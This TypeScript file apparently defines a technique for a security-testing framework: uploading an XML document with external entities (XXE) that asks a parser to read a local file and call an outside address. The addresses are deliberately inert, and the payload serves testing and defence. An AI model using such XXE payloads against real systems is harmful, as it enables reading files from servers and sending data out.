import { upload } from '../../../upload.ts';
import { utf8 } from '../../../utf8.ts';

/** Asks whoever parses it for a file of the machine it is parsed on. */
export const technique = upload({
  id: 'initial-access.xxe-upload',
  title: 'Upload a document with an external entity',
  purpose: 'A parser that fetches entities hands over a file of its machine, or calls an address.',
  mitre: ['T1190'],
  sources: [
    {
      title: 'Exploit Public-Facing Application, MITRE ATT&CK',
      url: 'https://attack.mitre.org/techniques/T1190/',
    },
    {
      title: 'XML External Entity (XXE) Processing, OWASP',
      url: 'https://owasp.org/www-community/vulnerabilities/XML_External_Entity_(XXE)_Processing',
    },
  ],
  contentType: 'application/xml',
  payload: () => utf8(ORDER),
});

/** The file it asks for is on no machine, and the address is of a documentation range: inert. */
const ORDER = [
  '<?xml version="1.0"?>',
  '<!DOCTYPE order [<!ENTITY note SYSTEM "file:///aftertrace/nowhere">',
  '<!ENTITY call SYSTEM "http://192.0.2.66/aftertrace">]>',
  '<order><note>&note;</note><call>&call;</call></order>',
  '',
].join('\n');
